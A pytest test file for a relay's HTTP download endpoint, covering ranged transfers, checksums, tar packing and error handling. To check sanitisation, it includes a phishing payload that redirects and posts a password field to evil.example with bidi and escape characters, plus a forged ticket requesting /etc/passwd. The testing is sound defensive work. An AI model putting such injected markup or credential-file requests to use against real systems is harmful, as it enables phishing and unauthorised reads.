"""Files by plain HTTP: what a ticket names and nothing else, from any byte on, and never as a page of the market."""

import hashlib
import io
import json
import os
import tarfile
import threading
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote_from_bytes, urlencode

import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from .conftest import Relay, wait_until
from .streaming import StreamHost, slow_checksums

Get = Callable[..., httpx.Response]


@pytest.fixture
def get(relay: Relay, host: StreamHost) -> Get:
    def ask(path: Path | str, method: str = "GET", query: str = "", timeout_s: float = 20, **headers: str) -> httpx.Response:
        grant = host.grant("read", path=quote_from_bytes(os.fsencode(path)), once=False)
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        address = f"{relay.url}/relay/v1/download?{urlencode({'ticket': host.ticket(grant)})}{query}"
        return httpx.request(method, address, headers=named, timeout=timeout_s)

    return ask


def test_a_file_comes_whole_or_from_a_byte_on(get: Get, tmp_path: Path) -> None:
    file = tmp_path / '数据 "x"\n.html'
    content = os.urandom(300_000)
    file.write_bytes(content)
    whole = get(file)
    assert (whole.status_code, whole.content) == (200, content)
    kept = whole.headers
    assert kept["content-length"] == "300000"
    assert kept["content-type"] == "application/octet-stream"
    assert kept["content-disposition"].startswith('attachment; filename="')
    assert kept["content-disposition"].endswith("filename*=UTF-8''%E6%95%B0%E6%8D%AE%20%22x%22%0A.html")
    assert (kept["x-content-type-options"], kept["content-security-policy"][:7]) == ("nosniff", "sandbox")

    later = get(file, range="bytes=200000-", if_range=kept["etag"])
    assert (later.status_code, later.content) == (206, content[200_000:])
    assert later.headers["content-range"] == "bytes 200000-299999/300000"
    assert get(file, range="bytes=5-9").content == content[5:10]
    assert get(file, range="bytes=299999-900000").content == content[-1:]
    assert get(file, range="bytes=300000-").status_code == 416
    assert get(file, range="bytes=5-9", if_range='"another"').content == content
    requested = get(file, "HEAD")
    assert (requested.status_code, requested.content, requested.headers["content-length"]) == (200, b"", "300000")
    (tmp_path / "empty").touch()
    assert get(tmp_path / "empty").content == b""


def test_the_checksum_of_a_file_is_told(get: Get, tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(content := os.urandom(300_000))
    reply = get(tmp_path / "file", query="&sum=1")
    assert (reply.status_code, reply.json()) == (200, {"sha256": hashlib.sha256(content).hexdigest()})
    assert reply.headers["cache-control"] == "private, no-store"
    for path, status, code in ((tmp_path, 409, "not_file"), (tmp_path / "none", 404, "missing")):
        refused = get(path, query="&sum=1")
        assert (refused.status_code, refused.json()["code"]) == (status, code)


def test_who_does_not_wait_for_a_checksum_leaves_no_stream(
    get: Get, host: StreamHost, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    sums = slow_checksums(host, tmp_path_factory.mktemp("sums"))
    (tmp_path / "file").write_bytes(b"x")
    with pytest.raises(httpx.ReadTimeout):
        get(tmp_path / "file", query="&sum=1", timeout_s=0.5)
    wait_until((sums / "begun").exists)
    wait_until(lambda: host.streams.sessions(host.instance) == 0)  # the program itself is ended: it would wait for `go`


def test_a_folder_is_packed_while_it_comes(get: Get, tmp_path: Path) -> None:
    (tmp_path / "-f").mkdir()
    (tmp_path / "-f" / "one").write_bytes(b"1" * 200_000)
    packed = get(tmp_path / "-f")
    assert packed.headers["content-type"] == "application/x-tar"
    assert 'filename="-f.tar"' in packed.headers["content-disposition"]
    with tarfile.open(fileobj=io.BytesIO(packed.content)) as tar:
        assert tar.getnames() == ["./-f", "./-f/one"]


def test_what_cannot_be_had_is_told_to_people_and_to_programs(
    get: Get, relay: Relay, host: StreamHost, tmp_path: Path
) -> None:
    refused = get(tmp_path / "none")
    assert (refused.status_code, refused.json()["code"]) == (404, "missing")
    assert "No file or folder has this name." in get(tmp_path / "none", accept="text/html").text
    os.mkfifo(tmp_path / "pipe")
    assert get(tmp_path / "pipe").json()["code"] == "not_file"
    address = f"{relay.url}/relay/v1/download"
    assert httpx.get(address, params={"ticket": host.sign("user:x")}).status_code == 401
    forged = host.ticket(host.grant("read", path="/etc/passwd", key="00" * 32))
    assert httpx.get(address, params={"ticket": forged}).json()["code"] == "bad_grant"
    host.follow(run="stopped")
    assert get(tmp_path / "none").json()["code"] == "not_running"


def test_a_file_that_ends_early_is_no_whole_download(get: Get, host: StreamHost, tmp_path: Path) -> None:
    """Its size was told before it shrank: the client must not take the part for the whole."""
    file = tmp_path / "shrinks"
    file.write_bytes(b"x" * 1000)
    program = tmp_path / "cat"
    program.write_text('#!/bin/sh\nhead -c 100 "$1"\n')
    program.chmod(0o755)
    host.containers.env["PATH"] = f"{tmp_path}:{os.environ['PATH']}"
    with pytest.raises(httpx.RemoteProtocolError):
        get(file)
    assert json.loads(get(tmp_path / "none").content)["code"] == "missing", "the next one is served"


# -- what a hostile agent says

LINKED = "ab" * 16
PHISHING = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/">'
    "<input name=password>\u202e\x1b[31m"
)


def asked_of(relay: Relay, answer: Callable[[Any, str], None], *, query: str = "", **headers: str) -> httpx.Response:
    """A download whose agent answers as it likes: `answer` gets its link and the stream that it is to dial."""
    address = relay.url.replace("http", "ws", 1)
    linked = threading.Event()

    def speak() -> None:
        with connect(f"{address}/relay/v1/link?ticket={relay.ticket(f'link:{LINKED}')}") as link:
            linked.set()
            answer(link, f"{address}/relay/v1/link/{json.loads(link.recv())['dial']}")

    agent = threading.Thread(target=speak, daemon=True)
    agent.start()
    assert linked.wait(10)
    named = urlencode({"ticket": relay.ticket(f"stream:{LINKED}:grant")})
    reply = httpx.get(f"{relay.url}/relay/v1/download?{named}{query}", headers=headers, timeout=20)
    agent.join(10)
    assert not agent.is_alive(), "its stream was left open"
    return reply


def refuse_to_dial(link: Any, stream: str) -> None:
    link.send(json.dumps({"refused": stream.rpartition("/")[2], "code": PHISHING, "detail": PHISHING}))


def answers(words: dict[str, Any]) -> Callable[[Any, str], None]:
    def dial(_link: Any, stream: str) -> None:
        with suppress(ConnectionClosed), connect(stream) as end:
            end.recv()
            end.send(json.dumps(words))
            end.recv(timeout=10)

    return dial


@pytest.mark.parametrize("refuse", [refuse_to_dial, answers({"code": PHISHING, "detail": PHISHING})])
def test_what_an_agent_refuses_with_is_text_on_the_page(relay: Relay, refuse: Callable[[Any, str], None]) -> None:
    page = asked_of(relay, refuse, accept="text/html")
    assert page.status_code == 502
    assert "<meta http" not in page.text
    assert "<form" not in page.text
    assert "<bdi>The host says: “" in page.text
    assert "引号内是主机的原话" in page.text
    assert "&lt;form action" in page.text
    assert not set(page.text) & set("\u202e\x1b")
    assert "form-action 'none'" in page.headers["content-security-policy"]
    problem = asked_of(relay, refuse)
    assert problem.json()["code"] == "refused"
    assert problem.json()["detail"].startswith("The host says: “")
    assert not set(problem.json()["detail"]) & set("\u202e\x1b")


@pytest.mark.parametrize(
    "head",
    [
        {"size": "x"},
        {"size": -1},
        {"size": 1e300},
        {"size": True},
        {"size": None},
        {"size": 5, "changed_at": "now"},
        {"size": 5, "changed_at": 10**30},
        {"size": 5, "name": 7},
        {"size": 5, "name": "\ud800"},
        {"size": 5, "name": "x" * 100_000},
    ],
)
def test_an_answer_that_is_none_is_told_and_its_stream_is_closed(relay: Relay, head: dict[str, Any]) -> None:
    reply = asked_of(relay, answers({"kind": "file", **head}))
    assert (reply.status_code, reply.json()["code"]) == (502, "failed")


@pytest.mark.parametrize("sha256", [None, 7, "x" * 64, "ab" * 31, PHISHING])
def test_a_checksum_that_is_none_is_told(relay: Relay, sha256: object) -> None:
    reply = asked_of(relay, answers({"ok": True, "sha256": sha256}), query="&sum=1")
    assert (reply.status_code, reply.json()["code"]) == (502, "failed")
